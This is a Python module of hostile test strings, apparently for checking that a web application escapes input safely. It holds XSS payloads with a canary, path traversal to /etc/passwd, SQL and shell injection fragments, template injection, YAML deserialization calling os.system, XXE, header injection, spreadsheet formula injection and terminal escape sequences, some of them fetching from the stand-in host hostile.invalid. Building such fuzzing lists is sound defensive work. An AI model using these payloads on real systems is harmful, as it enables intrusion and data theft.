"""Strings that mean ill, put together from fragments: markup, script, style, addresses, template and format languages,
terminals, directions of writing, and Unicode's odd corners. If one works in a page, `window.__pwned` is set, an element
with `data-hostile` appears, or something is fetched from hostile.invalid. The list is the same in every run.
"""

from itertools import product

CANARY = "window.__pwned=1"
ELSEWHERE = "//hostile.invalid/x"

BREAKS_OUT_OF = ["", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</pre>", '\\">']
MARKUP = [
    f"<script data-hostile>{CANARY}</script>",
    f"<img data-hostile src=x onerror={CANARY}>",
    f"<svg data-hostile onload={CANARY}>",
    f"<svg><script data-hostile>{CANARY}</script></svg>",
    "<iframe data-hostile srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<details data-hostile open ontoggle={CANARY}>",
    f"<input data-hostile autofocus onfocus={CANARY}>",
    f"<math><mtext><style><img data-hostile src=x onerror={CANARY}></style></mtext></math>",
    f"<a data-hostile href=javascript:{CANARY}>x</a>",
    f"<base data-hostile href=https:{ELSEWHERE}>",
    f"<link data-hostile rel=stylesheet href=https:{ELSEWHERE}>",
    f"<meta data-hostile http-equiv=refresh content='0;url=https:{ELSEWHERE}'>",
    f"<form data-hostile action=https:{ELSEWHERE}><button>x</button></form>",
    f"<object data-hostile data=https:{ELSEWHERE}></object>",
    f"<style data-hostile>@import 'https:{ELSEWHERE}';*{{display:none}}</style>",
    f"<video data-hostile poster=https:{ELSEWHERE}><source onerror={CANARY}></video>",
    f"<template data-hostile shadowrootmode=open><img src=https:{ELSEWHERE}></template>",
    f"<div data-hostile hx-get=https:{ELSEWHERE} hx-trigger=load hx-on::load={CANARY}></div>",
]
ATTRIBUTES = [
    f'" onmouseover="{CANARY}" autofocus onfocus="{CANARY}" data-hostile="',
    f"' onclick='{CANARY}' data-hostile='",
    f"` onload={CANARY} data-hostile ",
    f'" style="background:url(https:{ELSEWHERE})" data-hostile="',
    f'" hx-get="https:{ELSEWHERE}" hx-trigger="load" data-hostile="',
    f"x onerror={CANARY} data-hostile",
]
SCRIPTS = [
    f"';{CANARY};//",
    f'";{CANARY};//',
    f"\\';{CANARY};//",
    f"${{{CANARY}}}",
    f"`;{CANARY};`",
    f"\u2028{CANARY}\u2029",
]
ADDRESSES = [
    f"javascript:{CANARY}",
    f"JaVaScRiPt:{CANARY}",
    f"java\tscript:{CANARY}",
    f" \x01javascript:{CANARY}",
    f"data:text/html,<script>{CANARY}</script>",
    f"vbscript:{CANARY}",
    f"https:{ELSEWHERE}",
    ELSEWHERE,
    "\\\\hostile.invalid\\x",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "CON",
    "/dev/null",
]
LANGUAGES = [
    "{{ 7|add:7 }}",
    "{% load static %}{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{0.__class__.__mro__[1].__subclasses__}",
    "{task.__init__.__globals__[settings]}",
    "%(password)s %s %n %x",
    "${{secrets.TOKEN}} $(id) `id` ; id | id && id",
    "$TASK_ID ${HOME} $((1/0))",
    "#{7*7} <%= 7*7 %> <?php echo 7*7 ?>",
    "' OR '1'='1' --",
    "'); DROP TABLE tasks_task;--",
    "% _ [a-z] \\ escape",
    "(a+)+$ (.*)*x [",
    '=HYPERLINK("https://hostile.invalid")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '{"__proto__": {"polluted": 1}}',
    "__proto__",
    "constructor",
    "!!python/object/apply:os.system [id]",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt; &#60;script&#62; &amp;lt; &nbsp;",
    "%3Cscript%3E %253Cscript%253E",
    "\r\nSet-Cookie: hostile=1\r\n\r\n<script>",
    "at=2026-01-01T00:00:00Z level=error event=forged",
    "x\nlevel=error source=nightshift event=forged_line",
]
TERMINAL = [
    "\x1b[2J\x1b[H\x1b[31mred",
    "\x1b]0;title\x07\x1b]2;title\x1b\\",
    f"\x1b]8;;javascript:{CANARY}\x1b\\link\x1b]8;;\x1b\\",
    f"\x1b]8;;https:{ELSEWHERE}\x07link\x1b]8;;\x07",
    "\x1b]52;c;aG9zdGlsZQ==\x07",
    "\x1bP+q544e\x1b\\ \x1b^pm\x1b\\ \x1b_apc\x1b\\",
    "\x9b31m \x9d0;title\x9c \x90dcs\x9c",
    "\x1b[1000000000000000000000m\x1b[;;;;;;;;;;m",
    "\x1b[38;2;1e9;0;0m\x1b[38;5;m\x1b[",
    "over\rwritten\x08\x08\x08\x7f\x05\x0e\x0f\x07",
    f"\x1b[31m<img data-hostile src=x onerror={CANARY}>\x1b[0m",
    f"<scr\x1b[0mipt data-hostile>{CANARY}</scr\x1b[0mipt>",
    f"<scr\x00ipt data-hostile>{CANARY}</script>",
]
UNICODE = [
    "\u202eexe.txt\u202c",
    "\u2066\u2067\u2068isolates\u2069",
    "\u200b\u200c\u200d\ufeffinvisible",
    "\u0430dmin p\u0430ypal",
    "\uff1cscript\uff1e\uff07 \u02bc \u02ba",
    "Z\u0351\u036b\u0343" + "\u0334" * 40,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "\u0000",
    "\ufffe\uffff\U0010ffff",
    "\ud800",
    "\u1e9e\u0130\u0131\ufb01",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "a" * 5000,
    "<" * 2000,
    "\u0338" * 1000,
    " \t\u00a0\u3000 ",
    "",
    "-",
    "--help",
    "0",
    "null",
    "undefined",
    "NaN",
    "1e999",
    "Infinity",
    "[object Object]",
    "\U000e0041\U000e0042 tags",
    "\u180e\u2028\u2029\u0085",
    "\x00\x00\x00",
]
BYTES = [
    b"\xc0\xbcscript\xc0\xbe",
    b"\xe0\x80\xbcscript data-hostile\xe0\x80\xbe",
    b"\xff\xfe<\x00s\x00v\x00g\x00>",
    b"+ADw-script+AD4-",
    b"\x80\x81\xfe\xff",
    bytes(range(256)),
    b"\xed\xa0\x80<svg data-hostile onload=window.__pwned=1>",
]


def strings() -> list[str]:
    """At least 200, each once."""
    broken_out = [start + markup for start, markup in product(BREAKS_OUT_OF[1:], MARKUP[:9])]
    made = [*MARKUP, *ATTRIBUTES, *SCRIPTS, *ADDRESSES, *LANGUAGES, *TERMINAL, *UNICODE, *broken_out]
    return list(dict.fromkeys(made))


def for_a_log() -> bytes:
    """All of them, and bytes that are no text."""
    lines = [text.encode("utf-8", "surrogatepass") for text in strings()]
    return b"\n".join([*lines, *BYTES]) + b"\n"
